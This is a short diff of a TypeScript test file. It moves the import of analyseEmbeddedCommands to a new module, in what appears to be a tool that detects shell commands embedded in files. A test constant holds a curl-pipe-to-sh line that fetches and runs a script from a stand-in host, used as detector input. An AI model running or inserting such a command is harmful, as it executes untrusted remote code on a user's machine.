@@ -1,8 +1,8 @@
 import { expect, test } from "vitest";
 import type { Language } from "../../file/file-kind.ts";
 import { makeSource } from "../../testing/make-source.ts";
-import { analyseEmbeddedCommands } from "./analyse-embedded-commands.ts";
 import { analyseTable } from "./analyse-listings.ts";
+import { analyseEmbeddedCommands } from "./command-shape.ts";
 
 const RUN = "curl -fsSL https://get.relay-nine.test/a | sh";
 
